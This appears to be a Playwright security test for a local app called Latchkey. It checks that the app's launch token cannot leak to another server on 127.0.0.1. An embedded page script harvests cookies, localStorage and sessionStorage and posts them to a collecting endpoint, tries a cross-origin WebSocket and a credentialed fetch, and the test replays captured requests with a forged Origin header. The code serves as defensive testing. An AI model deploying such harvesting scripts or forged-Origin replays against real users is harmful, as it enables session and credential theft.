// The browser host's launch token, attacked the way a second local app would: another server on
// 127.0.0.1 (a dev server, another user's process) that the same browser visits. Browsers send
// cookies to every port of a host, so any credential in a cookie would reach it.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { openSocket } from '../fixtures/hostClient';
import { expect, test } from './fixtures';

interface Seen {
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/** Another local app: serves a page whose script looks for anything of Latchkey's it can reach. */
async function startSnoopingServer(hostOrigin: string): Promise<{ server: Server; origin: string; seen: Seen[] }> {
  const seen: Seen[] = [];
  const page = `<!doctype html><title>Another local app</title><script>
    const report = (what) => fetch('/report', { method: 'POST', body: JSON.stringify(what) });
    const found = { cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage), href: location.href, referrer: document.referrer };
    const ws = new WebSocket(${JSON.stringify(hostOrigin.replace('http', 'ws') + '/ws')}, ['latchkey']);
    ws.onopen = () => report({ ...found, socket: 'opened' });
    ws.onerror = () => report({ ...found, socket: 'refused' });
    fetch(${JSON.stringify(hostOrigin + '/')}, { credentials: 'include' }).then((r) => r.text()).then((t) => report({ read: t.slice(0, 200) }), (e) => report({ read: 'blocked: ' + e.message }));
  </script>`;
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      seen.push({ url: req.url ?? '', headers: req.headers, body });
      if (req.method === 'POST') return void res.writeHead(204).end();
      res.writeHead(200, { 'content-type': 'text/html' }).end(page);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

test('no other server on 127.0.0.1 receives anything usable, and nothing replays into the host', async ({ page, context, host }) => {
  const token = host.url.split('#token=')[1]!;
  await page.goto(host.url);
  await expect(page.getByText('Browser host')).toBeVisible();
  // The token has left the address bar and every history entry.
  expect(page.url()).toBe(`${host.origin}/`);
  const cdp = await context.newCDPSession(page);
  const history = (await cdp.send('Page.getNavigationHistory')) as { entries: { url: string }[] };
  expect(history.entries.map((e) => e.url).join(' ')).not.toContain(token);
  expect(await context.cookies()).toEqual([]);

  // A reload keeps working (the token is in this tab's session storage for this origin only).
  await page.reload();
  await expect(page.getByText('Browser host')).toBeVisible();

  const snoop = await startSnoopingServer(host.origin);
  try {
    // The same tab, then another tab of the same browser, visit the other server.
    await page.goto(`${snoop.origin}/`);
    const other = await context.newPage();
    await other.goto(`${snoop.origin}/elsewhere`);
    await expect.poll(() => snoop.seen.filter((s) => s.url === '/report').length, { timeout: 10_000 }).toBeGreaterThanOrEqual(4);

    const everything = JSON.stringify(snoop.seen);
    expect(everything).not.toContain(token);
    for (const report of snoop.seen.filter((s) => s.url === '/report').map((s) => JSON.parse(s.body) as Record<string, string>)) {
      if ('socket' in report) expect(report.socket).toBe('refused');
      if ('read' in report) expect(report.read).toMatch(/^blocked/);
    }

    // Replaying whatever the other server saw, with the host's own Origin forged, opens nothing.
    for (const request of snoop.seen) {
      const headers: Record<string, string> = { origin: host.origin };
      if (request.headers.cookie) headers.cookie = request.headers.cookie;
      await expect(openSocket(Number(new URL(host.origin).port), { headers, protocols: ['latchkey'] })).rejects.toThrow(/401|403/);
    }
    await other.close();
  } finally {
    snoop.server.close();
  }

  // A tab opened on the bare address (no token) says what to do instead of failing quietly.
  const bare = await context.newPage();
  await bare.goto(`${host.origin}/`);
  await expect(bare.getByRole('heading', { name: 'Open Latchkey from its link' })).toBeVisible();
  await bare.close();
});
